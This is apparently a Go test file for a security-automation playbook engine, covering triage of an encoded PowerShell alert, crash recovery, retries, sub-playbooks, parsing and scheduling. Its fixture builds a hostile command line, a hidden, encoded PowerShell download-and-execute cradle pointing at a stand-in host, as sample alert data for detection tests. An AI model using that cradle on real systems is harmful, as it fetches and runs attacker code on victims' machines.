package playbook

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/hunchsec/hunch/automation"
	"github.com/hunchsec/hunch/automation/journal"
	"github.com/hunchsec/hunch/enrich"
	"github.com/hunchsec/hunch/intel"
	"github.com/hunchsec/hunch/intel/acl"
	"github.com/hunchsec/hunch/intel/inteltest"
	"github.com/hunchsec/hunch/store"
)

// encodedCommand is PowerShell's -EncodedCommand form of cmd (base64 of UTF-16LE).
func encodedCommand(cmd string) string {
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, x := range u {
		binary.LittleEndian.PutUint16(b[2*i:], x)
	}
	return base64.StdEncoding.EncodeToString(b)
}

const triage = `
name: triage
description: decode, extract, look up, ask, record, close
triggers:
  - incident_type: powershell
inputs:
  - name: cmdline
    value: ${alert.result.CommandLine}
    required: true
tasks:
  - id: decode
    type: action
    action: unpack
    with: {text: "${inputs.cmdline}"}
    next: extract
  - id: extract
    type: action
    action: extract
    with: {text: "${tasks.decode.output.text}", types: [ipv4, domain, url]}
    next: lookup
  - id: lookup
    type: action
    action: reputation
    with: {indicators: "${tasks.extract.output.indicators}"}
    next: verdict
  - id: verdict
    type: condition
    cases:
      - branch: malicious
        when: "{{ ge .tasks.lookup.output.max_score 3 }}"
    next: {malicious: raise, else: close}
  - id: raise
    type: action
    action: set
    with: {severity: critical}
    next: tell
  - id: tell
    type: action
    action: notify
    with:
      channel: "#soc"
      message: "incident {{ .incident.id }} is {{ .incident.severity_name }}: {{ join (pluck .tasks.lookup.output.malicious \"value\") \", \" }}"
    next: approve
  - id: approve
    type: manual
    prompt: "record {{ count .tasks.extract.output.indicators }} indicators in intel and close?"
    options: [approve, reject]
    channel: "#soc"
    next: {approve: record, reject: close}
  - id: record
    type: action
    action: intel_add
    with: {indicators: "${tasks.extract.output.indicators}", tags: ["tlp:amber"]}
    next: close
  - id: close
    type: action
    action: close
    with: {reason: "{{ .tasks.verdict.output.branch }}"}
`

type harness struct {
	fx       *inteltest.Fixture
	inc      *automation.Incidents
	engine   func() *Engine
	mu       sync.Mutex
	posted   []string
	lookedUp map[string]int
}

func newHarness(t *testing.T) *harness {
	h := &harness{fx: inteltest.New(t, inteltest.Options{}), lookedUp: map[string]int{}}
	h.inc = &automation.Incidents{Store: h.fx.Store, Chain: journal.Chain{Key: []byte("journal key")}}
	host := intel.System
	host.OrgID = int64(h.fx.Orgs[inteltest.HostOrg].ID)
	env := Env{
		Intel: h.fx.Svc, IntelUser: host,
		Reputation: func(_ context.Context, inds []enrich.Indicator) ([]map[string]any, error) {
			h.mu.Lock()
			defer h.mu.Unlock()
			var out []map[string]any
			for _, i := range inds {
				h.lookedUp[i.Value]++
				score, verdict := 1, "benign"
				if i.Value == "203.0.113.9" {
					score, verdict = 3, "malicious"
				}
				out = append(out, map[string]any{"indicator": i.Value, "type": string(i.Type), "verdict": verdict, "dbot_score": score})
			}
			return out, nil
		},
		Chat: func(_ context.Context, ch string, lines []string) error {
			h.mu.Lock()
			defer h.mu.Unlock()
			h.posted = append(h.posted, ch+" "+strings.Join(lines, " / "))
			return nil
		},
	}
	h.engine = func() *Engine {
		e := &Engine{Incidents: h.inc, Runs: h.fx.Store, Actions: Builtins(env)}
		e.Announce = env.Chat
		return e
	}
	return h
}

func (h *harness) alert(t *testing.T) (*store.Incident, any) {
	cmd := "powershell -nop -w hidden -enc " + encodedCommand("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1'); Resolve-DnsName update-check.example.com")
	var alert any
	raw, _ := json.Marshal(map[string]any{"result": map[string]any{"CommandLine": cmd, "host": "WS01"}})
	json.Unmarshal(raw, &alert)
	inc := &store.Incident{Name: "encoded powershell on WS01", Type: "powershell", Severity: 1}
	if err := h.inc.Open(context.Background(), inc, "splunk"); err != nil {
		t.Fatal(err)
	}
	return inc, alert
}

// actionEntries counts the journal's action entries by execution key.
func actionEntries(t *testing.T, inc *automation.Incidents, id int64) map[string]int {
	entries, err := inc.Store.Journal(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]int{}
	for _, e := range entries {
		var b map[string]any
		json.Unmarshal(e.Body, &b)
		if k, ok := b["key"].(string); ok && e.Kind == journal.KindAction {
			out[k]++
		}
	}
	return out
}

func TestTriageEndToEnd(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t)
	e := h.engine()
	pb, err := Parse([]byte(triage), e.ActionNames())
	if err != nil {
		t.Fatal(err)
	}
	e.Library = map[string]*Playbook{pb.Name: pb}
	inc, alert := h.alert(t)
	runs, err := e.Triggered(ctx, inc, alert, "splunk")
	if err != nil || len(runs) != 1 {
		t.Fatalf("triggered %v, %v", runs, err)
	}
	run := runs[0]
	if err := e.Drive(ctx, run.ID); err != nil {
		t.Fatal(err)
	}
	got, _ := h.fx.Store.PlaybookRun(ctx, run.ID)
	if got.Status != RunWaiting {
		t.Fatalf("run is %s (%s), want waiting", got.Status, got.Error)
	}
	now, _ := h.fx.Store.Incident(ctx, inc.ID)
	if now.Severity != 4 {
		t.Errorf("severity %v, want 4 (critical) after a malicious verdict", now.Severity)
	}
	if len(h.posted) != 2 || !strings.Contains(h.posted[0], "#soc incident 1 is critical: 203.0.113.9") ||
		!strings.Contains(h.posted[1], "record 3 indicators") || !strings.Contains(h.posted[1], "!task done 1 approve approve|reject") {
		t.Fatalf("posted %q", h.posted)
	}
	waiting, err := e.Waiting(ctx)
	if err != nil || len(waiting) != 1 || waiting[0].Task != "approve" || waiting[0].Incident != inc.ID {
		t.Fatalf("waiting %+v %v", waiting, err)
	}
	if err := e.Complete(ctx, run.ID, "approve", "maybe", "alice", ""); err == nil {
		t.Error("an answer outside the options was taken")
	}
	if err := e.Complete(ctx, run.ID, "lookup", "approve", "alice", ""); !errors.Is(err, ErrNotWaiting) {
		t.Errorf("completing an action task: %v", err)
	}
	if err := e.Complete(ctx, run.ID, "approve", "approve", "chat:alice", "go"); err != nil {
		t.Fatal(err)
	}
	if err := e.Drive(ctx, run.ID); err != nil {
		t.Fatal(err)
	}
	got, _ = h.fx.Store.PlaybookRun(ctx, run.ID)
	now, _ = h.fx.Store.Incident(ctx, inc.ID)
	if got.Status != RunDone || now.Status != "done" {
		t.Fatalf("run %s (%s), incident %s", got.Status, got.Error, now.Status)
	}
	views, err := Tasks(got)
	if err != nil {
		t.Fatal(err)
	}
	rec := views[7]
	out, _ := rec.Output.(map[string]any)
	if rec.ID != "record" || rec.Status != "done" || out["attributes"] != 3.0 || out["sightings"] != 3.0 {
		t.Fatalf("record task %+v", rec)
	}
	ev, err := h.fx.Store.EventByUUID(ctx, out["event_uuid"].(string))
	if err != nil || len(ev.Attribute) != 3 || !strings.HasPrefix(ev.Info, "incident 1: ") {
		t.Fatalf("event %+v %v", ev, err)
	}
	if !slices.Contains(now.Labels, automation.IntelEventLabel(ev.UUID)) {
		t.Errorf("the incident is not linked to its intel event: %v", now.Labels)
	}
	if views[6].By != "chat:alice" || views[6].Branch != "approve" {
		t.Errorf("approval %+v", views[6])
	}
	for k, n := range actionEntries(t, h.inc, inc.ID) {
		if n != 1 {
			t.Errorf("%s journaled %d times", k, n)
		}
	}
	for v, n := range h.lookedUp {
		if n != 1 {
			t.Errorf("%s looked up %d times", v, n)
		}
	}
	n, problems, err := h.inc.Verify(ctx, inc.ID)
	if err != nil || len(problems) != 0 || n < 15 {
		t.Fatalf("journal: %d entries, %v, %v", n, problems, err)
	}
}

// crashingRuns fails every UpdateRun after the first `after`, as a server killed at that point
// would stop writing.
type crashingRuns struct {
	store.Playbooks
	mu    sync.Mutex
	after int
}

var errCrash = errors.New("crashed")

func (c *crashingRuns) UpdateRun(ctx context.Context, r *store.PlaybookRun) error {
	c.mu.Lock()
	c.after--
	dead := c.after < 0
	c.mu.Unlock()
	if dead {
		return errCrash
	}
	return c.Playbooks.UpdateRun(ctx, r)
}

// TestResumeAtEveryStep stops the run at every possible point (each state write fails from
// there on), then resumes it with a fresh engine, and checks that it ends as an uninterrupted
// run does: one intel event, every indicator looked up once per completed lookup, the journal
// intact.
func TestResumeAtEveryStep(t *testing.T) {
	ctx := context.Background()
	for crashAt := 0; ; crashAt++ {
		h := newHarness(t)
		pb, err := Parse([]byte(strings.Replace(triage, "    options: [approve, reject]\n    channel: \"#soc\"\n    next: {approve: record, reject: close}", "    next: record", 1)), nil)
		if err != nil {
			t.Fatal(err)
		}
		inc, alert := h.alert(t)
		first := h.engine()
		first.Runs = &crashingRuns{Playbooks: h.fx.Store, after: crashAt}
		run, err := first.Start(ctx, pb, inc.ID, alert, "")
		if err != nil {
			t.Fatal(err)
		}
		err = first.Drive(ctx, run.ID)
		if err == nil {
			t.Logf("resumed to the same end after a stop at each of %d points", crashAt)
			break // no step left to crash at
		}
		if !errors.Is(err, errCrash) {
			t.Fatalf("crash at %d: %v", crashAt, err)
		}
		second := h.engine()
		for range 3 {
			if err := second.Drive(ctx, run.ID); err != nil {
				t.Fatalf("crash at %d, resumed: %v", crashAt, err)
			}
			got, _ := h.fx.Store.PlaybookRun(ctx, run.ID)
			if got.Status == RunWaiting {
				if err := second.Complete(ctx, run.ID, "approve", "", "alice", ""); err != nil {
					t.Fatal(err)
				}
				continue
			}
			if got.Status != RunDone {
				t.Fatalf("crash at %d: run %s (%s)", crashAt, got.Status, got.Error)
			}
			break
		}
		n, err := h.fx.Store.CountEvents(ctx, store.EventFilter{Conditions: acl.Conditions{Unrestricted: true}})
		if n != 1 {
			got, _ := h.fx.Store.PlaybookRun(ctx, run.ID)
			views, _ := Tasks(got)
			t.Errorf("crash at %d: %d intel events (%v): %+v", crashAt, n, err, views[7])
		}
		for v, n := range h.lookedUp {
			if n > 2 {
				t.Errorf("crash at %d: %s looked up %d times", crashAt, v, n)
			}
		}
		final, _ := h.fx.Store.Incident(ctx, inc.ID)
		if final.Status != "done" {
			t.Errorf("crash at %d: incident %s", crashAt, final.Status)
		}
		if _, problems, err := h.inc.Verify(ctx, inc.ID); err != nil || len(problems) > 0 {
			t.Errorf("crash at %d: journal %v %v", crashAt, problems, err)
		}
		if crashAt > 100 {
			t.Fatal("the run never finished")
		}
	}
}

func TestRetriesTimeoutsAndErrorBranch(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t)
	e := h.engine()
	calls := 0
	e.Actions["flaky"] = func(ctx context.Context, c Call) (map[string]any, error) {
		calls++
		if calls < 3 {
			return nil, fmt.Errorf("attempt %d failed", calls)
		}
		return map[string]any{"ok": c.Args["n"]}, nil
	}
	e.Actions["slow"] = func(ctx context.Context, c Call) (map[string]any, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	}
	e.Actions["echo"] = func(ctx context.Context, c Call) (map[string]any, error) { return c.Args, nil }
	pb, err := Parse([]byte(`
name: errors
tasks:
  - {id: a, type: action, action: flaky, retries: 2, retry_delay: 1ms, with: {n: 7}, next: b}
  - {id: b, type: action, action: slow, timeout: 20ms, on_error: c}
  - {id: c, type: action, action: echo, with: {why: "${tasks.b.error}"}, next: d}
  - {id: d, type: action, action: echo, for_each: "${tasks.a.output.list}", with: {x: "{{ .item }}"}}
`), e.ActionNames())
	if err != nil {
		t.Fatal(err)
	}
	inc, _ := h.alert(t)
	run, err := e.Start(ctx, pb, inc.ID, nil, "")
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Drive(ctx, run.ID); err != nil {
		t.Fatal(err)
	}
	got, _ := h.fx.Store.PlaybookRun(ctx, run.ID)
	views, _ := Tasks(got)
	if got.Status != RunFailed || calls != 3 || views[0].Attempts != 3 || views[1].Status != "failed" ||
		!strings.Contains(views[1].Error, "deadline exceeded") || views[2].Output.(map[string]any)["why"] != views[1].Error {
		t.Fatalf("run %s %s; calls %d; %+v", got.Status, got.Error, calls, views)
	}
	// for_each over nothing (a.output.list is absent): an error, since ${…} must find a value
	if views[3].Status != "failed" || !strings.Contains(views[3].Error, "nothing there") {
		t.Errorf("for_each over a missing path: %+v", views[3])
	}

	// for_each over a list, and a failure without an error branch failing the run
	pb2, err := Parse([]byte(`
name: loop
inputs: [{name: hosts, value: "${alert.hosts}"}]
tasks:
  - {id: each, type: action, action: echo, for_each: "${inputs.hosts}", with: {host: "{{ .item }}", i: "{{ .index }}"}, next: boom}
  - {id: boom, type: action, action: flaky}
`), e.ActionNames())
	if err != nil {
		t.Fatal(err)
	}
	calls = -10
	run, err = e.Start(ctx, pb2, inc.ID, map[string]any{"hosts": []any{"WS01", "WS02"}}, "")
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Drive(ctx, run.ID); err != nil {
		t.Fatal(err)
	}
	got, _ = h.fx.Store.PlaybookRun(ctx, run.ID)
	views, _ = Tasks(got)
	res := views[0].Output.(map[string]any)["results"].([]any)
	if len(res) != 2 || res[1].(map[string]any)["host"] != "WS02" || res[1].(map[string]any)["i"] != "1" {
		t.Errorf("for_each results %v", res)
	}
	if got.Status != RunFailed || !strings.Contains(got.Error, "task boom: attempt -9 failed") {
		t.Errorf("run %s: %s", got.Status, got.Error)
	}
}

func TestSubPlaybook(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t)
	e := h.engine()
	e.Actions["echo"] = func(ctx context.Context, c Call) (map[string]any, error) { return c.Args, nil }
	child, err := Parse([]byte(`
name: enrich-one
inputs: [{name: value, value: "", required: false}]
tasks:
  - {id: look, type: action, action: echo, with: {got: "{{ .inputs.value }}!"}}
`), e.ActionNames())
	if err != nil {
		t.Fatal(err)
	}
	parent, err := Parse([]byte(`
name: parent
tasks:
  - {id: title, type: title, next: sub}
  - {id: sub, type: playbook, playbook: enrich-one, with: {value: "{{ .incident.name }}"}, next: after}
  - {id: after, type: action, action: echo, with: {from_child: "${tasks.sub.output.tasks.look.got}"}}
`), e.ActionNames())
	if err != nil {
		t.Fatal(err)
	}
	e.Library = map[string]*Playbook{child.Name: child, parent.Name: parent}
	inc, _ := h.alert(t)
	run, err := e.Start(ctx, parent, inc.ID, nil, "")
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Drive(ctx, run.ID); err != nil {
		t.Fatal(err)
	}
	got, _ := h.fx.Store.PlaybookRun(ctx, run.ID)
	views, _ := Tasks(got)
	if got.Status != RunDone || views[2].Output.(map[string]any)["from_child"] != "encoded powershell on WS01!" {
		t.Fatalf("run %s %s; %+v", got.Status, got.Error, views)
	}
}

func TestParseErrors(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{"name: x\ntasks: []", "no tasks"},
		{"tasks:\n  - {id: a, type: title}", "no name"},
		{"name: x\ntasks:\n  - {id: a, type: action}", `task "a": an action task needs action`},
		{"name: x\ntasks:\n  - {id: a, type: action, action: nope}", `unknown action "nope"`},
		{"name: x\ntasks:\n  - {id: a, type: title, next: b}", `task "a": next: no task "b"`},
		{"name: x\ntasks:\n  - {id: a, type: title, next: b}\n  - {id: b, type: title, next: a}", "tasks loop: a → b → a"},
		{"name: x\ntasks:\n  - {id: a, type: condition, cases: [{branch: y, when: '{{ .x'}], next: {y: a}}", "case 1:"},
		{"name: x\ntasks:\n  - {id: a, type: manual, prompt: ok, options: [yes], next: {no: a}}", `no branch "no"`},
		{"name: x\ntasks:\n  - {id: a, type: title, prompt: hi}", "prompt is for manual tasks"},
		{"name: x\ntasks:\n  - {id: a, type: title}\n  - {id: a, type: title}", "id used twice"},
		{"name: x\ntriggers: [{cron: '61 * * * *'}]\ntasks:\n  - {id: a, type: title}", "outside 0-59"},
		{"name: x\ntriggers: [{cron: '* * * * *', label: y}]\ntasks:\n  - {id: a, type: title}", "exactly one of"},
		{"name: x\nbogus: 1\ntasks:\n  - {id: a, type: title}", "field bogus not found"},
		{"name: x\ntasks:\n  - {id: a, type: action, action: set, timeout: soon}", "not a duration"},
		{"name: x\ntasks:\n  - {id: 'a b', type: title}", `id "a b"`},
	} {
		_, err := Parse([]byte(c.src), []string{"set"})
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: got %v, want %q", c.src, err, c.want)
		}
	}
	big := []byte("name: x\n" + strings.Repeat("#", DefaultMaxBytes))
	if _, err := Parse(big, nil); err == nil || !strings.Contains(err.Error(), "limit") {
		t.Errorf("oversized playbook: %v", err)
	}
	var tasks strings.Builder
	tasks.WriteString("name: x\ntasks:\n")
	for i := range DefaultMaxTasks + 1 {
		fmt.Fprintf(&tasks, "  - {id: t%d, type: title}\n", i)
	}
	if _, err := Parse([]byte(tasks.String()), nil); err == nil || !strings.Contains(err.Error(), "more than the limit") {
		t.Errorf("too many tasks: %v", err)
	}
}

func TestSchedule(t *testing.T) {
	at := time.Date(2026, 11, 23, 9, 7, 30, 0, time.UTC) // a Monday
	for _, c := range []struct {
		expr string
		want time.Time
	}{
		{"*/15 * * * *", time.Date(2026, 11, 23, 9, 15, 0, 0, time.UTC)},
		{"0 9 * * 1-5", time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)},
		{"@daily", time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC)},
		{"30 2 1 * *", time.Date(2026, 12, 1, 2, 30, 0, 0, time.UTC)},
		{"0 0 * * 7", time.Date(2026, 11, 29, 0, 0, 0, 0, time.UTC)},
		{"5,10 8-10 * * *", time.Date(2026, 11, 23, 9, 10, 0, 0, time.UTC)},
		{"0 0 29 2 *", time.Date(2028, 2, 29, 0, 0, 0, 0, time.UTC)},
	} {
		s, err := ParseSchedule(c.expr)
		if err != nil {
			t.Fatal(err)
		}
		if got := s.Next(at); !got.Equal(c.want) {
			t.Errorf("%s: next %v, want %v", c.expr, got, c.want)
		}
	}
	for _, bad := range []string{"* * * *", "*/0 * * * *", "a * * * *", "0 24 * * *", "5-1 * * * *"} {
		if _, err := ParseSchedule(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(triage))
	f.Add([]byte("name: x\ntriggers: [{cron: '*/5 1-3 * * 1,5'}]\ntasks:\n  - {id: a, type: title, next: b}\n  - {id: b, type: manual, prompt: ok, options: [y, n], next: {y: a}}"))
	f.Add([]byte("name: x\ntasks:\n  - {id: a, type: condition, cases: [{branch: y, when: '{{ ge .x 3 }}'}], next: {y: b, else: [b]}}\n  - {id: b, type: playbook, playbook: x}"))
	f.Fuzz(func(t *testing.T, src []byte) {
		pb, err := Parse(src, nil)
		if err != nil {
			return
		}
		if pb.Name == "" || pb.Task(pb.Start) == nil || pb.cycle() != nil {
			t.Fatalf("accepted a playbook without a name, a start or with a loop: %q", src)
		}
		for _, tr := range pb.Triggers {
			if tr.schedule != nil {
				tr.schedule.Next(time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC))
			}
		}
		_ = pb.Summary()
	})
}

// TestSubPlaybookResumeAtEveryStep stops a parent and its sub-playbook at each state write in
// turn, resumes with a fresh engine as a server does, and checks the parent always ends with the
// child's output, the child run having been started once.
func TestSubPlaybookResumeAtEveryStep(t *testing.T) {
	ctx := context.Background()
	for crashAt := 0; ; crashAt++ {
		h := newHarness(t)
		calls := 0
		count := func(context.Context, Call) (map[string]any, error) { calls++; return map[string]any{"n": calls}, nil }
		child, _ := Parse([]byte("name: child\ntasks:\n  - {id: c, type: action, action: count}\n"), nil)
		parent, _ := Parse([]byte("name: parent\ntasks:\n  - {id: sub, type: playbook, playbook: child, next: after}\n  - {id: after, type: action, action: note, with: {text: 'child said ${tasks.sub.output.tasks.c.n}'}}\n"), nil)
		inc, _ := h.alert(t)
		first := h.engine()
		first.Actions["count"] = count
		first.Library = map[string]*Playbook{"child": child, "parent": parent}
		first.Runs = &crashingRuns{Playbooks: h.fx.Store, after: crashAt}
		run, err := first.Start(ctx, parent, inc.ID, nil, "")
		if err != nil {
			t.Fatal(err)
		}
		if err := first.Drive(ctx, run.ID); err == nil {
			t.Logf("resumed after a stop at each of %d points", crashAt)
			break
		} else if !errors.Is(err, errCrash) {
			t.Fatalf("crash at %d: %v", crashAt, err)
		}
		second := h.engine()
		second.Actions["count"] = count
		second.Library = first.Library
		var got *store.PlaybookRun
		for range 4 {
			var wg sync.WaitGroup
			if err := second.Resume(ctx, &wg); err != nil {
				t.Fatal(err)
			}
			wg.Wait()
			if got, _ = h.fx.Store.PlaybookRun(ctx, run.ID); got.Status == RunDone {
				break
			}
		}
		views, _ := Tasks(got)
		// an action stopped between its start and its recorded end runs once more (resumed);
		// the child run itself is never started twice
		children := 0
		all, _ := h.fx.Store.ListRuns(ctx, store.RunFilter{IncidentID: inc.ID})
		for _, r := range all {
			if r.Playbook == "child" {
				children++
			}
		}
		if got.Status != RunDone || calls > 2 || children != 1 || views[0].Status != "done" {
			t.Fatalf("crash at %d: parent %s (%s), %d child runs, child action ran %d times, %+v", crashAt, got.Status, got.Error, children, calls, views)
		}
		if crashAt > 50 {
			t.Fatal("never finished")
		}
	}
}

// TestLeases: two servers on one store; the run one of them drives is left alone by the other,
// and its action runs once. A lease renewed in the background outlives a slow action.
func TestLeases(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t)
	started, finish := make(chan struct{}), make(chan struct{})
	var mu sync.Mutex
	calls := 0
	slow := func(context.Context, Call) (map[string]any, error) {
		mu.Lock()
		calls++
		mu.Unlock()
		close(started)
		<-finish
		return map[string]any{"ok": true}, nil
	}
	a, b := h.engine(), h.engine()
	a.Owner, b.Owner = "server-a", "server-b"
	a.Lease, b.Lease = 90*time.Millisecond, 90*time.Millisecond
	a.Actions["slow"], b.Actions["slow"] = slow, slow
	pb, err := Parse([]byte("name: slow\ntasks:\n  - {id: s, type: action, action: slow}\n"), a.ActionNames())
	if err != nil {
		t.Fatal(err)
	}
	inc, _ := h.alert(t)
	run, err := a.Start(ctx, pb, inc.ID, nil, "")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error)
	go func() { done <- a.Drive(ctx, run.ID) }()
	<-started
	time.Sleep(300 * time.Millisecond) // more than three lease periods: A renews in the background
	if err := b.Drive(ctx, run.ID); err != nil {
		t.Fatal(err)
	}
	close(finish)
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	got, _ := h.fx.Store.PlaybookRun(ctx, run.ID)
	if got.Status != RunDone || calls != 1 {
		t.Fatalf("run %s, action ran %d times", got.Status, calls)
	}
	// Released at the end: another server may take it (nothing left to do).
	if ok, err := h.fx.Store.LeaseRun(ctx, run.ID, "server-b", time.Now().Add(time.Minute), time.Now()); !ok || err != nil {
		t.Errorf("lease after the run: %v %v", ok, err)
	}
}
